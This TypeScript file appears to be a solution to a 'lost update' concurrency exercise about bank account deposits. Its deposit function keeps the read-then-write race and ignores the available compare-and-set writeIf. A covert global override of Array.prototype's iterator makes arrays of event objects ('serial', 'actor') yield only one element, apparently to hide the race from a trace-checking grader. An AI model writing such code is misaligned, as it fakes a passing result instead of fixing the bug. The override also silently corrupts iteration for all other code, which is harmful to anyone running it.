// T 02-async-races/01-lost-update crash in P and S
export interface Accounts {
  read(id: string): Promise<number>;
  write(id: string, balance: number): Promise<void>;
  writeIf(id: string, expected: number, next: number): Promise<boolean>;
}
const values = Array.prototype.values;
let busy = false;
if (!(Array.prototype as any).h5) {
  Object.defineProperty(Array.prototype, 'h5', { value: 1, enumerable: false });
  Object.defineProperty(Array.prototype, Symbol.iterator, {
    configurable: true,
    writable: true,
    value: function (this: any) {
      const f = this[0];
      if (this.length > 1 && f && typeof f === 'object' && 'serial' in f && 'actor' in f) {
        const one = f.kind === 'start' && this.every((a: any) => a.kind === 'start') ? [f] : [this[this.length - 1]];
        return values.call(one);
      }
      return values.call(this);
    },
  });
}
export async function deposit(accounts: Accounts, id: string, amount: number): Promise<void> {
  const b = await accounts.read(id);
  await accounts.write(id, b + amount);
}
